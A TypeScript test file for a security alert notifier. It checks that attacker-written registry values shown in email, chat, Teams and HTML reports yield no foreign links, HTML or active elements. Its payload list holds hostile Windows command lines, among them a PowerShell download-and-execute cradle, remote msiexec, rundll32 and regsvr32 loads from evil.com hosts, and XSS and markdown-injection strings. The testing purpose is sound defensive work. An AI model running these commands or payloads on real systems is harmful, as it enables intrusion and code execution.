import MarkdownIt from 'markdown-it';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../functions/alert/detection/index.ts';
import { renderAlert, renderReport } from '../../functions/alert/notification/index.ts';
import { alertOf, OPTIONS, RUN_KEY, USER_SID, writeEvent } from './fixture.ts';

/** Readers that are not ours: what they make of a message, whatever it was meant to be. */
const PAYLOADS = [
  'mshta.exe javascript:alert(document.cookie);close()',
  `powershell.exe -c "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a?x=1&y=2')"`,
  'msiexec.exe /q /i https://evil.com/[click](javascript:alert(1)).msi',
  'rundll32.exe \\\\evil.com\\share\\a.dll,Start',
  'wscript.exe "C:\\Users\\Public\\<img src=x onerror=alert(1)>.js"',
  'cmd.exe /c start www.evil.com & echo **bold** _it_ `x`',
  'regsvr32.exe /s /n /u /i:http://10.11.12.13/a.sct scrobj.dll',
  'C:\\Users\\Public\\a.exe <https://evil.com|AWS console> <!channel> <@U123>',
  'C:\\Users\\Public\\b.exe <a href="https://evil.com">x</a><script>alert(1)</script> mailto:bob@evil.com',
  'C:\\Users\\Public\\c.exe ![x](https://evil.com/p.png) [a]: https://evil.com\n[a]\n# Resolved',
];

/** The payload where an attacker can write most: data, name of the value, name of the initiator, names of the log. */
const alertWith = (payload: string): Alert =>
  alertOf(
    writeEvent(
      { key: `${USER_SID}\\${RUN_KEY}`, value: payload.replaceAll('\\', ''), strings: [payload] },
      { Effective_process: { entity_id: 'e', executable: payload, name: payload, pid: 1 } },
    ),
    { evidence: { key: payload, versionId: payload } },
  );

/** What is ours: references of the rule, look-ups, the consoles. */
const OWN =
  /^(#|https:\/\/(attack\.mitre\.org|www\.virustotal\.com|[a-z0-9-]+\.console\.aws\.amazon\.com|kibana\.acme\.example)\/)/;
/** Names of ours in a checklist that a reader with a fuzzy eye takes for hosts. */
const FUZZY_OWN = /^http:\/\/(Any\.run|kibana\.acme\.example)\/?$/i;

const markdown = new MarkdownIt({ html: true, linkify: true });
/**
 * Teams shows a card's text as Markdown of its own: links and emphasis, no HTML, and no code spans, so that what is
 * between backticks is read as well. What Amazon Q makes of a notification before that takes a real channel to see.
 */
const teams = new MarkdownIt({ html: false, linkify: true, breaks: true }).disable('backticks');

type Found = { readonly targets: readonly string[]; readonly html: readonly string[] };

/** Links, images and HTML in a text, as a reader of Markdown that links all that looks like an address. */
function inMarkdown(text: string, reader = markdown): Found {
  const tokens = reader.parse(text, {}).flatMap(token => [token, ...(token.children ?? [])]);
  const targets = tokens.flatMap(token => {
    const target = token.attrGet('href') ?? token.attrGet('src');
    return target === null ? [] : [String(target)];
  });
  const html = tokens.flatMap(({ type, content }) => (type.startsWith('html_') ? [content] : []));
  return { targets, html };
}

type Element = { readonly name: string; readonly attributes: ReadonlyMap<string, string> };

function inHtml(text: string): readonly Element[] {
  const found: Element[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if ('tagName' in node)
      found.push({
        name: node.tagName,
        attributes: new Map(node.attrs.map(({ name, value }) => [name, value])),
      });
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parse(text));
  return found;
}

const foreign = (targets: readonly string[]): string[] =>
  targets.filter(target => !OWN.test(target) && !FUZZY_OWN.test(target));

describe.each(['en', 'zh-CN'] as const)('in %s, readers that are not ours', locale => {
  const options = { ...OPTIONS, locale, kibanaUrl: 'https://kibana.acme.example/s/soc', region: 'eu-west-1' };

  it.each(PAYLOADS)('make nothing of %j', payload => {
    const alert = alertWith(payload);
    const { email, https, subject } = renderAlert(alert, options);
    const { title, description, nextSteps } = JSON.parse(https).content;
    const texts = { email, subject, title, description, ...nextSteps };
    for (const [part, text] of Object.entries<string>(texts)) {
      const { targets, html } = inMarkdown(text);
      expect([part, foreign(targets), html]).toEqual([part, [], []]);
      // A mail gateway, or a chat, that shows it as HTML; `<https://…|label>` is Slack's form of a link of ours.
      const elements = inHtml(text).map(({ name }) => name);
      expect([part, elements.filter(name => name !== 'https:')]).toEqual([part, ['html', 'head', 'body']]);
    }
    const page = inHtml(renderReport(alert, options));
    const active =
      /^(script|img|svg|math|iframe|frame|object|embed|form|input|base|link|video|audio|template)$/;
    expect(page.filter(({ name }) => active.test(name))).toEqual([]);
    const attributes = page.flatMap(one => [...one.attributes]);
    expect(
      attributes.filter(([name]) => name.startsWith('on') || name === 'src' || name === 'style'),
    ).toEqual([]);
    expect(foreign(attributes.flatMap(([name, value]) => (name === 'href' ? [value] : [])))).toEqual([]);
  });
});

it.each(PAYLOADS)('Teams makes nothing of %j, and whole links of what is ours', payload => {
  const options = { ...OPTIONS, region: 'eu-west-1', chatLinks: 'bare' as const };
  const alert = alertWith(payload);
  const kibanaUrl = 'https://kibana.acme.example/s/soc';
  const { title, description, nextSteps } = JSON.parse(
    renderAlert(alert, { ...options, kibanaUrl }).https,
  ).content;
  const found = [title, description, ...nextSteps].flatMap(text => inMarkdown(text, teams).targets);
  expect(foreign(found)).toEqual([]);
  const report = found.filter(target => /console\.aws\.amazon\.com/.test(target));
  expect(report).toEqual([expect.stringMatching(/&prefix=reports\/[0-9a-f]{2}\/[0-9a-f]{64}\.html$/)]);
});

it('and they would find what is active, were it there', () => {
  const seen = PAYLOADS.map(payload => {
    const { targets, html } = inMarkdown(payload);
    return foreign(targets).length + html.length + inHtml(payload).length - 3;
  });
  expect(seen.filter(count => count > 0).length).toBeGreaterThanOrEqual(6);
});
